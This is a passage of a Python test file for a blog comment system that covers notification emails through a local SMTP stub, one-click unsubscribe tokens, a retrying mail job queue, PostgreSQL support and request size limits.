        message = message_from_bytes(envelope.content, policy=policy.default)
        message["X-Envelope-To"] = ", ".join(envelope.rcpt_tos)
        self.messages.append(message)
        return "250 OK"

    def wait(self, count: int, seconds: float = 15.0) -> list[EmailMessage]:
        deadline = time.monotonic() + seconds
        while len(self.messages) < count and time.monotonic() < deadline:
            time.sleep(0.05)
        return self.messages


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def smtp():
    inbox = Inbox()
    with smtp_server(inbox) as inbox.url:
        yield inbox


def text_of(message: EmailMessage) -> str:
    return message.get_body(("plain",)).get_content()


def html_of(message: EmailMessage) -> str:
    return message.get_body(("html",)).get_content()


def test_the_author_is_mailed_about_each_new_comment_once(tmp_path, blog_db, smtp):
    site = make_site(tmp_path, blog_db, smtp=smtp.url, base_url="https://recaps.example.org",
                     mail_from="Recaps <recaps@example.org>")
    site.send("Where can I find the slides?", name="Ann Reader", email="ann@example.org")
    held = site.last_id()
    site.reply_as_author("Nobody mails me about my own answer.", parent=None)
    assert deliver_due(site.store, site.settings) == 1
    assert deliver_due(site.store, site.settings) == 0  # the worker running again sends nothing
    [message] = smtp.messages
    assert message["To"] == ADMIN_EMAIL and message["X-Envelope-To"] == ADMIN_EMAIL
    assert message["Subject"] == f"New comment on {site.post.title}"
    assert message["From"] == "Recaps <recaps@example.org>"
    assert message["Message-ID"].endswith("@recaps.example.org>") and message["Date"]
    text = text_of(message)
    assert "Ann Reader <ann@example.org> commented on" in text
    assert "> Where can I find the slides?" in text
    assert "held for moderation" in text and "https://recaps.example.org/admin/comments" in text
    assert "Where can I find the slides?" in html_of(message)
    assert 'href="https://recaps.example.org/admin/comments"' in html_of(message)

    site.moderate("approve", held)
    site.send("A second one, published at once.", name="Ann Reader", email="ann@example.org")
    deliver_due(site.store, site.settings)
    second = smtp.messages[1]
    assert f"https://recaps.example.org/posts/{site.post.slug}#comment-{site.last_id()}" in text_of(second)
    assert len(smtp.messages) == 2


def test_a_commenter_who_asked_is_mailed_about_replies_and_can_stop_it(tmp_path, blog_db, smtp):
    site = make_site(tmp_path, blog_db, smtp=smtp.url, base_url="https://recaps.example.org")
    site.store.execute("UPDATE admins SET email = NULL")  # only the reply messages here
    site.store.commit()
    site.send("Tell me when someone answers.", name="Ann", email="ann@example.org", notify=True)
    ann = site.last_id()
    site.moderate("approve", ann)
    site.send("Ann answering herself.", name="Ann", email="ANN@example.org", parent=ann)
    site.send("Bob's reply, held first.", name="Bob", email="bob@example.org", parent=ann)
    bob = site.last_id()
    deliver_due(site.store, site.settings)
    assert smtp.messages == []  # nothing for her own reply, nothing for a held one
    site.moderate("approve", bob)
    site.moderate("approve", bob)
    lib.approve(site.store, [bob], site.settings)
    deliver_due(site.store, site.settings)
    deliver_due(site.store, site.settings)
    [message] = smtp.messages
    assert message["To"] == "ann@example.org"
    assert message["Subject"] == f"Bob replied to your comment on {site.post.title}"
    text = text_of(message)
    assert "> Bob's reply, held first." in text
    assert f"https://recaps.example.org/posts/{site.post.slug}#comment-{bob}" in text
    stop = re.search(r"Stop messages about this thread: (\S+)", text).group(1)
    assert message["List-Unsubscribe"] == f"<{stop}>"
    assert message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert "bob@example.org" not in message.as_string()

    path = stop.removeprefix("https://recaps.example.org")
    confirm = site.client.get(path)
    assert confirm.status_code == 200 and "Stop these messages" in confirm.text
    assert lib.get_comment(site.store, ann).notify_replies  # a GET changes nothing
    token = next(e.attrs["value"] for e in parse(confirm.text).iter() if e.attrs.get("name") == "token")
    done = site.client.post("/comments/unsubscribe", data={"token": token})
    assert done.status_code == 200 and "you will get no more messages" in done.text
    assert not lib.get_comment(site.store, ann).notify_replies
    site.send("Cy replies later.", name="Cy", email="cy@example.org", parent=ann)
    site.moderate("approve", site.last_id())
    deliver_due(site.store, site.settings)
    assert len(smtp.messages) == 1
    assert site.client.post("/comments/unsubscribe?token=forged").status_code == 403


def test_one_click_unsubscribe_from_a_mail_client(site):
    token = lib.unsubscribe_token(site.store, site.post.id, "ann@example.org")
    payload = token.split(".")[0]
    readable = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))
    assert b"ann" not in readable  # the link names the address without writing it
    site.send("Notify me.", email="ann@example.org", notify=True)
    response = site.client.post(f"/comments/unsubscribe?token={token}",
                                data={"List-Unsubscribe": "One-Click"})
    assert response.status_code == 200
    assert not lib.get_comment(site.store, site.last_id()).notify_replies


def test_mail_waits_in_the_queue_without_smtp_and_a_restarted_app_sends_it(tmp_path, blog_db, smtp):
    site = make_site(tmp_path, blog_db)  # no SMTP server configured
    with TestClient(site.app, base_url="https://testserver") as client:
        site.send("Queued while the mail server is away.", client=client)
        time.sleep(0.3)
    assert jobs.counts(site.store, MAIL) == {"queued": 1, "done": 0, "failed": 0}
    assert smtp.messages == []

    settings = load_settings(db=site.settings.db, smtp=smtp.url, min_fill_seconds=0)
    restarted = create_app(settings)
    with TestClient(restarted, base_url="https://testserver"):  # its lifespan starts the mail worker
        [message] = smtp.wait(1)
        assert "Queued while the mail server is away." in text_of(message)
        deadline = time.monotonic() + 5
        while jobs.counts(site.store, MAIL)["done"] != 1 and time.monotonic() < deadline:
            time.sleep(0.05)
    assert jobs.counts(site.store, MAIL) == {"queued": 0, "done": 1, "failed": 0}
    again = create_app(settings)
    with TestClient(again, base_url="https://testserver"):
        time.sleep(0.5)
    assert len(smtp.messages) == 1


def test_the_running_worker_sends_a_new_comments_mail_at_once(tmp_path, blog_db, smtp):
    site = make_site(tmp_path, blog_db, smtp=smtp.url)
    with TestClient(site.app, base_url="https://testserver") as client:
        site.send("Sent while the app runs.", client=client)
        [message] = smtp.wait(1, seconds=4)  # woken by the comment, not the 5-second poll
        assert "Sent while the app runs." in text_of(message)


def test_a_failed_send_is_retried_later_and_given_up_after_the_last_attempt(tmp_path, blog_db):
    site = make_site(tmp_path, blog_db, smtp=f"smtp://127.0.0.1:{free_port()}")  # nobody listens
    site.send("The mail server is down.")
    assert deliver_due(site.store, site.settings) == 0
    [(status, attempts, error, run_after)] = site.store.query(
        "SELECT status, attempts, last_error, run_after FROM jobs")
    assert (status, attempts) == ("queued", 1) and "ConnectionRefusedError" in error
    assert run_after > lib.iso(lib._now())  # not due again at once
    assert jobs.claim(site.store, MAIL) is None
    site.store.execute("UPDATE jobs SET run_after = ?, attempts = ?", ("2000-01-01T00:00:00.000000+00:00",
                                                                       jobs.MAX_ATTEMPTS - 1))
    site.store.commit()
    deliver_due(site.store, site.settings)
    assert jobs.counts(site.store, MAIL) == {"queued": 0, "done": 0, "failed": 1}


def test_a_job_is_queued_once_per_dedupe_key_and_claimed_by_one_worker(tmp_path, blog_db):
    site = make_site(tmp_path, blog_db)
    first = jobs.enqueue(site.store, "test", {"n": 1}, "same-thing")
    assert first is not None
    assert jobs.enqueue(site.store, "test", {"n": 2}, "same-thing") is None
    other = open_store(site.settings.db, migrate=False)
    job = jobs.claim(site.store, "test")
    assert job is not None and job.payload == {"n": 1} and job.attempts == 1
    assert jobs.claim(other, "test") is None  # locked by the first claimer
    jobs.done(site.store, job)
    assert jobs.claim(other, "test") is None
    other.close()


# --- the same on PostgreSQL -------------------------------------------------------------

@pytest.fixture(scope="module")
def pg_blog(pg_server):
    """A PostgreSQL workspace with the example's recap published."""
    url = pg_server.url(pg_server.create_database())
    example = files("chatrecap") / "examples" / "b2bchat-example.jsonl"
    with as_file(example) as archive, open_store(url) as store:
        import_file(store, Path(archive), "twarc2", ReadOptions(chat="#B2Bchat"))
        posts.publish(store, posts.draft(store, find_sessions(store, "#B2Bchat")[-1]))
        create_admin(store, "host", "a long enough password", email=ADMIN_EMAIL,
                     display_name="Hanna Host")
    return url


def test_comments_moderation_and_the_mail_queue_work_on_postgresql(pg_blog, smtp):
    site = Site(pg_blog, smtp=smtp.url)
    site.send("Held on PostgreSQL.", notify=True)
    first = site.last_id()
    assert site.status(first) == "pending"
    site.moderate("approve", first)
    site.send("Published at once.", email="ann@example.org", parent=first, name="Ann again")
    site.send("Bob answers.", name="Bob", email="bob@example.org", parent=first)
    bob = site.last_id()
    assert site.send("Bob answers.", name="Bob", email="bob@example.org").status_code == 400  # duplicate
    site.moderate("approve", bob)
    page = thread_html(site.store, site.web, posts.get_post(site.store, post_id=site.post.id))
    assert "Held on PostgreSQL." in page and "Bob answers." in page and "@example.org" not in page
    assert [c.id for c in lib.list_comments(site.store, pending_only=True)] == []
    assert deliver_due(site.store, site.settings) == 4  # 3 for the author, 1 reply for Ann
    assert deliver_due(site.store, site.settings) == 0
    assert sorted(m["To"] for m in smtp.messages) == ["ann@example.org"] + [ADMIN_EMAIL] * 3
    assert jobs.enqueue(site.store, "test", {}, "once") is not None
    assert jobs.enqueue(site.store, "test", {}, "once") is None
    assert lib.unsubscribe(site.store, site.post.id, "ann@example.org") == 1
    site.store.close()


def test_a_form_over_the_size_limit_is_refused_before_it_is_read(site):
    """One request must not take the server's memory or disk: a body over the limit is a 413,
    whether it says its length or comes in chunks; the comment form works as before."""
    from chatrecap.web.app import ADMIN_BODY_MAX_BYTES, BODY_MAX_BYTES

    big = {"comment": "x" * BODY_MAX_BYTES, "name": "Ann", "email": "ann@example.org"}
    said = site.client.post(f"/posts/{site.post.slug}/comments", data=big)
    assert said.status_code == 413 and f"{BODY_MAX_BYTES:,} bytes" in said.text

    def chunks():
        for _ in range(BODY_MAX_BYTES // 65536 + 2):
            yield b"a" * 65536

    streamed = site.client.post("/subscribe", content=chunks(),
                                headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert streamed.status_code == 413
    admin = site.client.post("/admin/login", content=b"a" * (ADMIN_BODY_MAX_BYTES + 1),
                             headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert admin.status_code == 413
    small = site.client.post("/subscribe", content=iter([b"email=ann%40example.org", b"&name=Ann"]),
                             headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert small.status_code in (200, 303, 400, 403)  # a chunked form under the limit reaches the route
    assert site.send("Still fine.").status_code == 200
